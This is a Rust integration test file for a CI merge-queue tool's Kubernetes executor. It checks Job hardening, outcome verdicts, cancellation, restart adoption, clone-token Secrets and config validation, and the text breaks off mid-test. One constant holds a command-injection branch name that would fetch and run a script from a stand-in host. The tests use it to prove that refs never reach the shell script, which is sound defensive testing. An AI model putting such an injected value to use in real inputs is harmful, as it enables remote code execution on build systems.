//! The Kubernetes executor against an in-memory API (over
//! `tower_test::mock`): the Job it creates, cancel, restart, and the verdict
//! on recorded Job and Pod objects.

#[path = "support/fake_kube.rs"]
mod fake_kube;

use fake_kube::FakeKube;
use http::Method;
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::Pod;
use serde_json::{Value, json};
use sluice::config::KubernetesConfig;
use sluice::core::{BuildId, Candidate, CandidatePr, Outcome, RepoName, Sha, Timestamp};
use sluice::executor::kubernetes::manifest::PREPARE_SCRIPT;
use sluice::executor::kubernetes::{KubernetesExecutor, outcome};
use sluice::executor::{Executor, JobResult, JobSpec};
use std::collections::HashMap;
use std::time::Duration;
use tokio::sync::mpsc;

const NS: &str = "sluice-jobs";
const HEAD: &str = "1f0c3a9d5b7e2c4f6a8b0d1e3f5a7c9e1b3d5f70";
const TARGET: &str = "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a291807";
const EVIL_REF: &str = "feature/$(curl${IFS}evil|sh)";

fn fixture(name: &str) -> Value {
    let path = format!(
        "{}/testdata/kubernetes/{name}.json",
        env!("CARGO_MANIFEST_DIR")
    );
    serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap()
}

fn job_fixture(name: &str) -> Job {
    serde_json::from_value(fixture(name)).unwrap()
}

fn pod_fixture(name: &str) -> Pod {
    serde_json::from_value(fixture(name)).unwrap()
}

// ---- the verdict, on recorded objects -------------------------------------

/// 2025-06-01T10:00:00Z, when the recorded Job was created.
const CREATED_MS: u64 = 1_748_772_000_000;
const SCHEDULE: Duration = Duration::from_secs(600);

fn verdict(job: &str, pod: Option<&str>, now: u64) -> Option<(Outcome, String, Option<i32>)> {
    let job = job_fixture(job);
    let pod = pod.map(pod_fixture);
    outcome(&job, pod.as_ref(), Timestamp(now), SCHEDULE)
        .map(|v| (v.outcome, v.detail, v.exit_code))
}

fn soon() -> u64 {
    CREATED_MS + 60_000
}

fn late() -> u64 {
    CREATED_MS + 3_600_000
}

#[test]
fn a_complete_job_passed() {
    let v = verdict("job-complete", Some("pod-succeeded"), soon()).unwrap();
    assert_eq!(v, (Outcome::Passed, "exit code 0".into(), Some(0)));
}

#[test]
fn a_running_job_has_no_verdict_yet() {
    assert_eq!(verdict("job-running", Some("pod-running"), late()), None);
    assert_eq!(verdict("job-running", None, soon()), None);
}

#[test]
fn a_failing_test_is_a_failure_with_its_exit_code() {
    let v = verdict("job-failed", Some("pod-test-failed"), soon()).unwrap();
    assert_eq!(v, (Outcome::Failed, "exit code 101".into(), Some(101)));
    let v = verdict("job-failed", Some("pod-oom"), soon()).unwrap();
    assert_eq!(
        v,
        (
            Outcome::Failed,
            "exit code 137 (OOMKilled)".into(),
            Some(137)
        )
    );
}

#[test]
fn a_merge_conflict_is_a_failure() {
    let v = verdict("job-failed", Some("pod-conflict"), soon()).unwrap();
    assert_eq!(
        v,
        (Outcome::Failed, "merge conflict with main".into(), None)
    );
}

#[test]
fn a_fetch_failure_is_an_error() {
    let v = verdict("job-failed", Some("pod-fetch-failed"), soon()).unwrap();
    assert_eq!(v, (Outcome::Error, "git fetch failed".into(), None));
}

#[test]
fn a_deadline_is_an_error_not_a_failure() {
    let v = verdict("job-deadline", Some("pod-test-failed"), late()).unwrap();
    assert_eq!(v.0, Outcome::Error);
    assert_eq!(v.1, "timed out after 1800s (DeadlineExceeded)");
}

#[test]
fn an_evicted_pod_is_an_error_even_though_its_test_exited_137() {
    let v = verdict("job-failed", Some("pod-evicted"), soon()).unwrap();
    assert_eq!(v.0, Outcome::Error);
    assert!(
        v.1.starts_with("pod evicted: The node was low on resource"),
        "{}",
        v.1
    );
    // Seen before the Job controller marks the Job failed, too.
    let v = verdict("job-running", Some("pod-evicted"), soon()).unwrap();
    assert_eq!(v.0, Outcome::Error);
}

#[test]
fn a_lost_node_or_pod_is_an_error() {
    let v = verdict("job-failed", Some("pod-node-lost"), soon()).unwrap();
    assert_eq!(v.0, Outcome::Error);
    assert!(v.1.contains("DeletionByTaintManager"), "{}", v.1);
    let v = verdict("job-failed", None, soon()).unwrap();
    assert_eq!(v.0, Outcome::Error);
    assert!(v.1.starts_with("pod lost"), "{}", v.1);
    assert!(v.1.contains("BackoffLimitExceeded"), "{}", v.1);
}

#[test]
fn an_image_that_cannot_be_pulled_is_an_error_at_once() {
    let v = verdict("job-running", Some("pod-image-pull-backoff"), soon()).unwrap();
    assert_eq!(v.0, Outcome::Error);
    assert!(v.1.contains("ImagePullBackOff"), "{}", v.1);
    assert!(v.1.contains("rust:1.85-nope"), "{}", v.1);
}

#[test]
fn an_unschedulable_pod_is_an_error_only_after_the_schedule_timeout() {
    assert_eq!(
        verdict("job-running", Some("pod-unschedulable"), soon()),
        None
    );
    let v = verdict("job-running", Some("pod-unschedulable"), late()).unwrap();
    assert_eq!(v.0, Outcome::Error);
    assert!(
        v.1.starts_with("not scheduled within 600s: 0/3 nodes"),
        "{}",
        v.1
    );
    // No pod at all (a quota, say): the same.
    let v = verdict("job-running", None, late()).unwrap();
    assert_eq!(
        v,
        (
            Outcome::Error,
            "no pod was created within 600s".into(),
            None
        )
    );
}

// ---- the executor over the fake API ---------------------------------------

fn config(relist_secs: u64) -> KubernetesConfig {
    KubernetesConfig {
        namespace: NS.into(),
        relist_interval_secs: relist_secs,
        api_timeout_secs: 5,
        ..KubernetesConfig::default()
    }
}

fn executor(relist_secs: u64) -> (KubernetesExecutor, FakeKube) {
    let (service, handle) = tower_test::mock::pair::<
        http::Request<kube::client::Body>,
        http::Response<kube::client::Body>,
    >();
    let fake = FakeKube::new(NS);
    tokio::spawn(fake.clone().serve_tower(handle));
    let client = kube::Client::new(service, NS);
    let images = HashMap::from([(
        RepoName::parse("octo/demo").unwrap(),
        "rust:1.85".to_string(),
    )]);
    (
        KubernetesExecutor::new(client, &config(relist_secs), images),
        fake,
    )
}

fn candidate() -> Candidate {
    Candidate {
        car: None,
        repo: RepoName::parse("octo/demo").unwrap(),
        target_branch: "main".into(),
        target_sha: Sha::parse(TARGET).unwrap(),
        prs: vec![CandidatePr {
            number: 7,
            head_sha: Sha::parse(HEAD).unwrap(),
            head_ref: EVIL_REF.into(),
        }],
    }
}

fn spec(build: &str) -> JobSpec {
    JobSpec {
        build: BuildId::parse(build).unwrap(),
        candidate: candidate(),
        clone_url: "https://github.com/octo/demo.git".into(),
        command: vec!["cargo".into(), "test".into(), "--locked".into()],
        timeout: Duration::from_secs(1800),
        clone_token: None,
        mint_token: None,
    }
}

/// A build of a private repository: a clone token `ghs_tok` for its fetch.
fn spec_with_token(build: &str) -> JobSpec {
    JobSpec {
        clone_token: Some(sluice::executor::CloneToken::new("ghs_tok".into())),
        ..spec(build)
    }
}

async fn next(rx: &mut mpsc::UnboundedReceiver<JobResult>) -> JobResult {
    tokio::time::timeout(Duration::from_secs(10), rx.recv())
        .await
        .expect("no result within 10s")
        .expect("channel closed")
}

async fn nothing(rx: &mut mpsc::UnboundedReceiver<JobResult>, wait: Duration) {
    if let Ok(Some(r)) = tokio::time::timeout(wait, rx.recv()).await {
        panic!("unexpected result: {:?}", r.report);
    }
}

/// The recorded pod, renamed and relabelled for `build`.
fn pod_for(name: &str, build: &str) -> Value {
    let mut pod = fixture(name);
    pod["metadata"]["name"] = json!(format!("sluice-{build}-x7k2p"));
    pod["metadata"]["labels"]["sluice.dev/build"] = json!(build);
    pod
}

fn status_of(name: &str) -> Value {
    fixture(name)["status"].clone()
}

fn env_of(container: &Value) -> HashMap<String, String> {
    container["env"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            assert!(e.get("valueFrom").is_none(), "env from elsewhere: {e}");
            (
                e["name"].as_str().unwrap().to_string(),
                e["value"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect()
}

#[tokio::test]
async fn the_job_is_hardened_and_carries_refs_only_as_values() {
    let (ex, fake) = executor(60);
    let (tx, _rx) = mpsc::unbounded_channel();
    ex.start(spec("b-1"), tx);
    let post = fake
        .wait_for(Method::POST, &format!("/namespaces/{NS}/jobs"))
        .await;
    let job = post.body.unwrap();

    let meta = &job["metadata"];
    assert_eq!(meta["name"], "sluice-b-1");
    assert_eq!(meta["namespace"], NS);
    let labels = &meta["labels"];
    assert_eq!(labels["app.kubernetes.io/managed-by"], "sluice");
    assert_eq!(labels["sluice.dev/repo"], "octo.demo");
    assert_eq!(labels["sluice.dev/pr"], "7");
    assert_eq!(labels["sluice.dev/head-sha"], HEAD);
    assert_eq!(labels["sluice.dev/target-sha"], TARGET);
    assert_eq!(labels["sluice.dev/build"], "b-1");
    let ann = &meta["annotations"];
    assert_eq!(ann["sluice.dev/repo"], "octo/demo");
    assert_eq!(ann["sluice.dev/head-ref"], EVIL_REF);
    assert_eq!(ann["sluice.dev/target-branch"], "main");
    assert_eq!(
        ann["sluice.dev/clone-url"],
        "https://github.com/octo/demo.git"
    );
    let back: Candidate =
        serde_json::from_str(ann["sluice.dev/candidate"].as_str().unwrap()).unwrap();
    assert_eq!(back, candidate());

    let spec = &job["spec"];
    assert_eq!(spec["backoffLimit"], 0);
    assert_eq!(spec["activeDeadlineSeconds"], 1800);
    assert_eq!(spec["ttlSecondsAfterFinished"], 3600);
    let template = &spec["template"];
    assert_eq!(
        template["metadata"]["labels"], *labels,
        "pods are found by the same labels"
    );
    let pod = &template["spec"];
    assert_eq!(pod["restartPolicy"], "Never");
    assert_eq!(pod["automountServiceAccountToken"], false);
    assert_eq!(pod["enableServiceLinks"], false);
    assert_eq!(pod["securityContext"]["runAsNonRoot"], true);
    assert_eq!(pod["securityContext"]["runAsUser"], 65532);
    assert!(pod.get("serviceAccountName").is_none());
    let volumes = pod["volumes"].as_array().unwrap();
    assert_eq!(volumes.len(), 1);
    assert_eq!(
        volumes[0]["emptyDir"],
        json!({}),
        "no secret or host volume"
    );

    let init = &pod["initContainers"][0];
    let test = &pod["containers"][0];
    assert_eq!(pod["containers"].as_array().unwrap().len(), 1);
    for c in [init, test] {
        let sc = &c["securityContext"];
        assert_eq!(sc["allowPrivilegeEscalation"], false, "{}", c["name"]);
        assert_eq!(sc["runAsNonRoot"], true);
        assert_eq!(sc["capabilities"]["drop"], json!(["ALL"]));
        assert!(c.get("envFrom").is_none());
        assert_eq!(c["resources"]["requests"]["cpu"], "500m");
        assert_eq!(c["resources"]["limits"]["memory"], "2Gi");
    }
    assert_eq!(init["name"], "prepare");
    assert_eq!(init["image"], "alpine/git:2.47.2");
    assert_eq!(init["command"], json!(["sh", "-c", PREPARE_SCRIPT]));
    let script = PREPARE_SCRIPT;
    for value in [HEAD, TARGET, EVIL_REF, "octo/demo", "github.com"] {
        assert!(!script.contains(value), "{value} spliced into the script");
    }
    let env = env_of(init);
    assert_eq!(env["SLUICE_CHECKOUT_SHA"], HEAD);
    assert_eq!(env["SLUICE_MERGE_SHAS"], TARGET);
    assert_eq!(env["SLUICE_CLONE_URL"], "https://github.com/octo/demo.git");
    assert_eq!(env["SLUICE_HEAD_REF"], EVIL_REF);

    assert_eq!(test["name"], "test");
    assert_eq!(test["image"], "rust:1.85", "the repository's image");
    assert_eq!(test["command"], json!(["cargo", "test", "--locked"]));
    assert!(test.get("args").is_none());
    assert_eq!(test["workingDir"], "/sluice/src");
    let env = env_of(test);
    for (k, v) in [
        ("SLUICE_REPO", "octo/demo"),
        ("SLUICE_PR", "7"),
        ("SLUICE_HEAD_SHA", HEAD),
        ("SLUICE_HEAD_REF", EVIL_REF),
        ("SLUICE_TARGET_BRANCH", "main"),
        ("SLUICE_TARGET_SHA", TARGET),
        ("SLUICE_BUILD_ID", "b-1"),
    ] {
        assert_eq!(env[k], v, "{k}");
    }
    assert!(!env.contains_key("SLUICE_CLONE_URL"));
    for k in env.keys() {
        let k = k.to_ascii_uppercase();
        assert!(!k.contains("TOKEN") && !k.contains("SECRET"), "{k}");
    }
}

#[tokio::test]
async fn a_finished_job_is_reported_with_its_log_and_marked() {
    let (ex, fake) = executor(60);
    let (tx, mut rx) = mpsc::unbounded_channel();
    ex.start(spec("b-2"), tx);
    fake.wait_for(Method::POST, "/jobs").await;
    let pod = pod_for("pod-succeeded", "b-2");
    let pod_name = pod["metadata"]["name"].as_str().unwrap().to_string();
    fake.put_pod(pod);
    fake.set_log(
        &pod_name,
        "prepare",
        "sluice: fetching\nsluice: workspace ready\n",
    );
    fake.set_log(&pod_name, "test", "running 3 tests\ntest result: ok\n");
    fake.set_job_status("sluice-b-2", status_of("job-complete"));

    let result = next(&mut rx).await;
    assert_eq!(result.build.as_str(), "b-2");
    assert_eq!(result.candidate, candidate());
    assert_eq!(result.report.outcome, Outcome::Passed);
    assert_eq!(result.report.exit_code, Some(0));
    let log = String::from_utf8(result.log).unwrap();
    let prepare = log.find("sluice: workspace ready").expect(&log);
    let test = log.find("test result: ok").expect(&log);
    assert!(prepare < test, "{log}");
    assert!(log.contains(&format!("head {HEAD}")), "{log}");
    assert!(log.ends_with("sluice: passed: exit code 0\n"), "{log}");

    let logs = fake.requests_to(Method::GET, "/log");
    assert_eq!(logs.len(), 2);
    assert!(logs.iter().all(|r| r.query.contains_key("limitBytes")));
    let patch = fake.wait_for(Method::PATCH, "/jobs/sluice-b-2").await;
    assert_eq!(
        patch.body.unwrap()["metadata"]["annotations"]["sluice.dev/reported"],
        "true"
    );
    nothing(&mut rx, Duration::from_millis(300)).await;
}

#[tokio::test]
async fn a_failed_test_and_a_conflict_are_failures() {
    let (ex, fake) = executor(60);
    let (tx, mut rx) = mpsc::unbounded_channel();
    ex.start(spec("b-3"), tx.clone());
    ex.start(spec("b-4"), tx);
    fake.wait_for(Method::POST, "/jobs").await;
    while fake.requests_to(Method::POST, "/jobs").len() < 2 {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    fake.put_pod(pod_for("pod-test-failed", "b-3"));
    fake.put_pod(pod_for("pod-conflict", "b-4"));
    fake.set_job_status("sluice-b-3", status_of("job-failed"));
    fake.set_job_status("sluice-b-4", status_of("job-failed"));
    let mut results = [next(&mut rx).await, next(&mut rx).await];
    results.sort_by(|a, b| a.build.cmp(&b.build));
    assert_eq!(results[0].report.outcome, Outcome::Failed);
    assert_eq!(results[0].report.exit_code, Some(101));
    assert_eq!(results[1].report.outcome, Outcome::Failed);
    assert_eq!(results[1].report.detail, "merge conflict with main");
    // The conflict's test container never ran: only the prepare log is read.
    let logs = fake.requests_to(Method::GET, "/pods/sluice-b-4-x7k2p/log");
    assert_eq!(logs.len(), 1);
    assert_eq!(logs[0].query["container"], "prepare");
}

#[tokio::test]
async fn cancel_deletes_in_the_background_and_reports_nothing() {
    let (ex, fake) = executor(60);
    let (tx, mut rx) = mpsc::unbounded_channel();
    ex.start(spec("b-5"), tx);
    fake.wait_for(Method::POST, "/jobs").await;
    // Wait until the executor knows the Job exists.
    tokio::time::sleep(Duration::from_millis(100)).await;
    ex.cancel(&BuildId::parse("b-5").unwrap());
    let delete = fake.wait_for(Method::DELETE, "/jobs/sluice-b-5").await;
    assert_eq!(delete.body.unwrap()["propagationPolicy"], "Background");
    assert!(fake.job("sluice-b-5").is_none());
    assert!(ex.running().is_empty());
    nothing(&mut rx, Duration::from_millis(500)).await;
    // Unknown ids are ignored.
    ex.cancel(&BuildId::parse("b-unknown").unwrap());
}

#[tokio::test]
async fn a_cancel_during_create_still_deletes_the_job() {
    let (ex, fake) = executor(60);
    let (tx, mut rx) = mpsc::unbounded_channel();
    ex.start(spec("b-6"), tx);
    ex.cancel(&BuildId::parse("b-6").unwrap());
    fake.wait_for(Method::DELETE, "/jobs/sluice-b-6").await;
    nothing(&mut rx, Duration::from_millis(300)).await;
    assert!(fake.job("sluice-b-6").is_none());
}

/// A Job as a previous sluice created it.
fn existing_job(build: &str, c: &Candidate, running: bool) -> Value {
    let settings = sluice::executor::kubernetes::manifest::JobSettings::new(&config(60), None);
    let mut spec = spec(build);
    spec.candidate = c.clone();
    let job = sluice::executor::kubernetes::manifest::build_job(&spec, &settings);
    let mut job = serde_json::to_value(job).unwrap();
    job["status"] = if running {
        status_of("job-running")
    } else {
        status_of("job-complete")
    };
    job
}

#[tokio::test]
async fn restart_adopts_current_jobs_and_deletes_stale_ones() {
    let (ex, fake) = executor(60);
    let current = candidate();
    let mut stale = candidate();
    stale.target_sha = Sha::parse(&"5".repeat(40)).unwrap();
    fake.insert_job(existing_job("old-1", &current, true));
    fake.insert_job(existing_job("old-2", &stale, true));
    let mut reported = existing_job("old-3", &current, false);
    reported["metadata"]["annotations"]["sluice.dev/reported"] = json!("true");
    fake.insert_job(reported);

    let (tx, mut rx) = mpsc::unbounded_channel();
    let want = current.clone();
    let adoption = ex.adopt(&|_, c| *c == want, tx.clone()).await.unwrap();
    assert_eq!(
        adoption.adopted,
        vec![(BuildId::parse("old-1").unwrap(), current.clone())]
    );
    assert_eq!(adoption.deleted, vec![BuildId::parse("old-2").unwrap()]);
    let delete = fake.wait_for(Method::DELETE, "/jobs/sluice-old-2").await;
    assert_eq!(delete.body.unwrap()["propagationPolicy"], "Background");
    assert!(
        fake.job("sluice-old-3").is_some(),
        "reported jobs are left to their TTL"
    );

    // Starting the adopted build again does not make a second Job.
    let mut again = spec("old-1");
    again.candidate = current.clone();
    ex.start(again, tx);
    fake.put_pod(pod_for("pod-test-failed", "old-1"));
    fake.set_job_status("sluice-old-1", status_of("job-failed"));
    let result = next(&mut rx).await;
    assert_eq!(result.build.as_str(), "old-1");
    assert_eq!(result.report.outcome, Outcome::Failed);
    nothing(&mut rx, Duration::from_millis(300)).await;
    let creates = fake.requests_to(Method::POST, "/jobs");
    assert!(creates.len() <= 1, "{creates:?}");
    assert_eq!(
        fake.requests_to(Method::DELETE, "/jobs/sluice-old-1").len(),
        0
    );
}

#[tokio::test]
async fn an_existing_job_for_the_build_is_adopted_not_duplicated() {
    let (ex, fake) = executor(60);
    fake.insert_job(existing_job("b-7", &candidate(), true));
    let (tx, mut rx) = mpsc::unbounded_channel();
    ex.start(spec("b-7"), tx);
    fake.wait_for(Method::GET, "/jobs/sluice-b-7").await;
    fake.put_pod(pod_for("pod-succeeded", "b-7"));
    fake.set_job_status("sluice-b-7", status_of("job-complete"));
    let result = next(&mut rx).await;
    assert_eq!(result.report.outcome, Outcome::Passed);
    assert_eq!(fake.requests_to(Method::POST, "/jobs").len(), 1);
}

/// The API created the Job, but its answer was lost (a 504 from a proxy):
/// the Job is found and adopted, not left running unseen while the build
/// is reported failed and tested again.
#[tokio::test]
async fn a_job_created_though_its_answer_was_lost_is_adopted() {
    let (ex, fake) = executor(60);
    fake.force_after(
        Method::POST,
        &format!("/apis/batch/v1/namespaces/{NS}/jobs"),
        504,
    );
    let (tx, mut rx) = mpsc::unbounded_channel();
    ex.start(spec("b-9"), tx);
    fake.wait_for(Method::GET, "/jobs/sluice-b-9").await;
    fake.put_pod(pod_for("pod-succeeded", "b-9"));
    fake.set_job_status("sluice-b-9", status_of("job-complete"));
    let result = next(&mut rx).await;
    assert_eq!(result.report.outcome, Outcome::Passed, "{result:?}");
    assert_eq!(fake.requests_to(Method::POST, "/jobs").len(), 1);
}

#[tokio::test]
async fn a_job_that_cannot_be_created_is_an_error() {
    let (ex, fake) = executor(60);
    fake.force(
        Method::POST,
        &format!("/apis/batch/v1/namespaces/{NS}/jobs"),
        403,
    );
    let (tx, mut rx) = mpsc::unbounded_channel();
    ex.start(spec("b-8"), tx);
    let result = next(&mut rx).await;
    assert_eq!(result.report.outcome, Outcome::Error);
    assert!(
        result
            .report
            .detail
            .starts_with("cannot create Job sluice-b-8"),
        "{}",
        result.report.detail
    );
    assert!(ex.running().is_empty());
}

/// A build with a clone token: the Job is created suspended, then its
/// Secret (owned by the Job), then the Job is resumed, in that order.
#[tokio::test]
async fn a_clone_token_goes_in_a_secret_made_before_the_job_runs() {
    let (ex, fake) = executor(60);
    let (tx, _rx) = mpsc::unbounded_channel();
    ex.start(spec_with_token("b-5"), tx);
    fake.wait_for(Method::PATCH, "/jobs/sluice-b-5").await;
    let order: Vec<String> = fake
        .summary()
        .into_iter()
        .filter(|r| r.starts_with("POST") || r.starts_with("PATCH"))
        .collect();
    assert_eq!(
        order,
        [
            format!("POST /apis/batch/v1/namespaces/{NS}/jobs"),
            format!("POST /api/v1/namespaces/{NS}/secrets"),
            format!("PATCH /apis/batch/v1/namespaces/{NS}/jobs/sluice-b-5"),
        ]
    );
    let created = fake.requests_to(Method::POST, "/jobs").remove(0);
    assert_eq!(created.body.as_ref().unwrap()["spec"]["suspend"], true);
    assert!(!created.body.unwrap().to_string().contains("ghs_tok"));
    let secret = fake.secret("sluice-b-5").expect("the Secret");
    assert_eq!(
        secret["metadata"]["ownerReferences"][0]["uid"],
        "uid-sluice-b-5"
    );
    assert_eq!(fake.job("sluice-b-5").unwrap()["spec"]["suspend"], false);
    // The garbage collector deletes it with its Job.
    fake.remove_job("sluice-b-5");
    assert!(fake.secret("sluice-b-5").is_none());
}

/// A Secret that cannot be made: the suspended Job is deleted and the
/// build is an infrastructure error (retried), not a Job that never runs.
#[tokio::test]
async fn a_clone_secret_that_cannot_be_made_is_an_error_and_its_job_deleted() {
    let (ex, fake) = executor(60);
    fake.force(
        Method::POST,
        &format!("/api/v1/namespaces/{NS}/secrets"),
        403,
    );
    let (tx, mut rx) = mpsc::unbounded_channel();
    ex.start(spec_with_token("b-6"), tx);
    let result = next(&mut rx).await;
    assert_eq!(result.report.outcome, Outcome::Error);
    assert!(
        result
            .report
            .detail
            .starts_with("cannot start Job sluice-b-6"),
        "{}",
        result.report.detail
    );
    assert!(fake.job("sluice-b-6").is_none(), "the Job was deleted");
    assert!(ex.running().is_empty());
}

/// After a restart, a Job still suspended (sluice died before its Secret
/// was made) is deleted, not adopted: its build starts again.
#[tokio::test]
async fn a_restart_deletes_a_job_still_waiting_for_its_secret() {
    let (ex, fake) = executor(60);
    let mut job = existing_job("b-7", &candidate(), true);
    job["spec"]["suspend"] = serde_json::json!(true);
    fake.insert_job(job);
    let (tx, _rx) = mpsc::unbounded_channel();
    let adoption = ex.adopt(&|_, _| true, tx).await.unwrap();
    assert!(adoption.adopted.is_empty(), "{adoption:?}");
    assert_eq!(adoption.deleted.len(), 1);
    assert!(fake.job("sluice-b-7").is_none());
}

#[tokio::test]
async fn a_stuck_pod_is_found_by_the_relist_reported_as_error_and_deleted() {
    let (ex, fake) = executor(1);
    let (tx, mut rx) = mpsc::unbounded_channel();
    ex.start(spec("b-9"), tx);
    fake.wait_for(Method::POST, "/jobs").await;
    fake.put_pod(pod_for("pod-image-pull-backoff", "b-9"));
    let result = next(&mut rx).await;
    assert_eq!(result.report.outcome, Outcome::Error);
    assert!(result.report.detail.contains("ImagePullBackOff"));
    let delete = fake.wait_for(Method::DELETE, "/jobs/sluice-b-9").await;
    assert_eq!(delete.body.unwrap()["propagationPolicy"], "Background");
}

#[tokio::test]
async fn a_missed_watch_event_is_healed_by_the_relist() {
    let (ex, fake) = executor(1);
    let (tx, mut rx) = mpsc::unbounded_channel();
    ex.start(spec("b-10"), tx);
    fake.wait_for(Method::POST, "/jobs").await;
    fake.put_pod(pod_for("pod-succeeded", "b-10"));
    // Change the status without a watch event.
    fake.set_job_status_quietly("sluice-b-10", status_of("job-complete"));
    let result = next(&mut rx).await;
    assert_eq!(result.report.outcome, Outcome::Passed);
}

#[tokio::test]
async fn a_job_deleted_behind_sluices_back_is_an_error() {
    let (ex, fake) = executor(60);
    let (tx, mut rx) = mpsc::unbounded_channel();
    ex.start(spec("b-11"), tx);
    fake.wait_for(Method::POST, "/jobs").await;
    tokio::time::sleep(Duration::from_millis(100)).await;
    fake.remove_job("sluice-b-11");
    let result = next(&mut rx).await;
    assert_eq!(result.report.outcome, Outcome::Error);
    assert_eq!(
        result.report.detail,
        "the Job was deleted before it finished"
    );
    drop(ex);
}

#[test]
fn the_kubernetes_section_is_read_and_checked() {
    use sluice::config::{Config, ExecutorKind};
    let path = std::path::Path::new("sluice.toml");
    let text = r#"
        [executor]
        kind = "kubernetes"
        [executor.kubernetes]
        namespace = "ci"
        git_image = "alpine/git:2.47.2"
        default_image = "debian:bookworm"
        kubeconfig = "/etc/sluice/kubeconfig"
        schedule_timeout_secs = 120
        requests = { cpu = "1", memory = "1Gi" }
        limits = { memory = "4Gi" }
        [[repos]]
        name = "octo/demo"
        test_command = ["cargo", "test"]
        image = "rust:1.85"
    "#;
    let config = Config::parse(text, path).unwrap();
    assert_eq!(config.executor.kind, ExecutorKind::Kubernetes);
    let k = &config.executor.kubernetes;
    assert_eq!(k.namespace, "ci");
    assert_eq!(k.schedule_timeout_secs, 120);
    assert_eq!(k.requests["cpu"], "1");
    assert_eq!(k.limits["memory"], "4Gi");
    assert_eq!(k.ttl_seconds_after_finished, 3600, "defaults fill the rest");
    assert_eq!(config.repos[0].image.as_deref(), Some("rust:1.85"));

    let bad = text.replace("namespace = \"ci\"", "namespace = \"Not_A_Label\"");
    let err = Config::parse(&bad, path).unwrap_err().to_string();
    assert!(err.contains("executor.kubernetes.namespace"), "{err}");
    let root = text.replace("schedule_timeout_secs = 120", "run_as_user = 0");
    let err = Config::parse(&root, path).unwrap_err().to_string();
    assert!(err.contains("executor.kubernetes.run_as_user"), "{err}");
    // A Job Kubernetes deletes before sluice has read its log loses the
    // result: the TTL must outlive the reading and a re-list.
    for ttl in ["0", "60", "299"] {
        let short = text.replace(
            "schedule_timeout_secs = 120",
            &format!("ttl_seconds_after_finished = {ttl}"),
        );
        let err = Config::parse(&short, path).unwrap_err().to_string();
        assert!(
            err.contains("executor.kubernetes.ttl_seconds_after_finished"),
            "{ttl}: {err}"
        );
    }
    let slow = text.replace(
        "schedule_timeout_secs = 120",
        "relist_interval_secs = 9223372036854775807",
    );
    let err = Config::parse(&slow, path).unwrap_err().to_string();
    assert!(
        err.contains("executor.kubernetes.relist_interval_secs"),
        "{err}"
    );
}

// ---- end to end: sluice's real kube client over HTTP, through a kubeconfig

mod end_to_end_support {
    use super::fake_kube::FakeKube;
    use sluice::config::ExecutorKind;
    use sluice::demo::Stack;
    use std::time::Duration;

    pub const WAIT: Duration = Duration::from_secs(90);

    /// The demo stack with sluice's Kubernetes executor, connected through
    /// a kubeconfig to the fake API, whose kubelet runs the Jobs locally.
    pub async fn stack(dir: &std::path::Path) -> (Stack, FakeKube) {
        let fake = FakeKube::new("sluice-e2e").with_kubelet(&dir.join("kubelet"));
        let kubeconfig = fake.clone().serve_http(dir).await;
        let stack = Stack::start(dir, "127.0.0.1:0".parse().unwrap(), |c| {
            c.executor.kind = ExecutorKind::Kubernetes;
            let k = &mut c.executor.kubernetes;
            k.kubeconfig = Some(kubeconfig);
            k.namespace = "sluice-e2e".into();
            k.relist_interval_secs = 2;
        })
        .await
        .expect("stack starts");
        (stack, fake)
    }

    pub fn state_of(stack: &Stack, pr: u64) -> Option<String> {
        stack.status_of(pr).map(|s| s.state)
    }

    /// Waits for `pr`'s success status and reads the log its link shows.
    pub async fn passing_log(stack: &Stack, pr: u64) -> String {
        stack
            .wait_for("success", WAIT, |s| {
                state_of(s, pr).as_deref() == Some("success")
            })
            .await
            .unwrap();
        let link = stack.status_of(pr).unwrap().target_url.unwrap();
        stack
            .http
            .get(format!("{link}log.txt"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap()
    }
}

mod end_to_end {
    use super::end_to_end_support::*;
    use sluice::demo::DEMO_REPO;

    #[tokio::test]
    async fn a_passing_pr_is_tested_in_a_job_and_merged_once_approved() {
        let dir = tempfile::tempdir().unwrap();
        let (stack, fake) = stack(dir.path()).await;
        let pr = stack
            .open_pr(
                "feature",
                &[("src/feature.txt", "works\n")],
                "Add a feature",
            )
            .await
            .unwrap();
        let log = passing_log(&stack, pr).await;
        assert!(log.contains("sluice: workspace ready"), "{log}");
        assert!(log.contains("all good"), "{log}");
        assert!(log.contains("sluice: passed: exit code 0"), "{log}");
        assert!(
            !fake
                .requests_to(http::Method::POST, "/namespaces/sluice-e2e/jobs")
                .is_empty()
        );
        stack
            .hub
            .review(DEMO_REPO, pr, "alice", "APPROVED")
            .await
            .unwrap();
        stack
            .wait_for("merge", WAIT, |s| {
                s.hub.pr(DEMO_REPO, pr).is_some_and(|p| p.merged)
            })
            .await
            .unwrap();
        stack.sluice.stop().await;
    }

    #[tokio::test]
    async fn a_failing_pr_gets_failure() {
        let dir = tempfile::tempdir().unwrap();
        let (stack, _fake) = stack(dir.path()).await;
        let pr = stack
            .open_pr("broken", &[("src/broken.txt", "a BUG\n")], "Break things")
            .await
            .unwrap();
        stack
            .wait_for("failure", WAIT, |s| {
                state_of(s, pr).as_deref() == Some("failure")
            })
            .await
            .unwrap();
        let status = stack.status_of(pr).unwrap();
        assert!(
            status
                .description
                .unwrap_or_default()
                .contains("exit code 1")
        );
        stack.sluice.stop().await;
    }
}

mod end_to_end_infra {
    use super::end_to_end_support::*;
    use std::time::Duration;

    #[tokio::test]
    async fn an_evicted_job_is_an_error_retried_not_a_failure() {
        let dir = tempfile::tempdir().unwrap();
        let (stack, fake) = stack(dir.path()).await;
        let pr = stack
            .open_pr(
                "slow",
                &[("delay", "3\n"), ("src/slow.txt", "fine\n")],
                "Slow but fine",
            )
            .await
            .unwrap();
        let first = loop {
            if let Some(job) = fake.running_jobs().pop() {
                break job;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        };
        fake.evict(&first);
        // The retry runs in a new Job and passes; nothing says "failure".
        stack
            .wait_for("success", WAIT, |s| {
                state_of(s, pr).as_deref() == Some("success")
            })
            .await
            .unwrap();
        let history = stack
            .get_json(&format!(
                "/history?repo={}&pr={pr}",
                sluice::demo::DEMO_REPO
            ))
            .await
            .unwrap();
        let outcomes: Vec<String> = history["entries"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["kind"] == "build_finished")
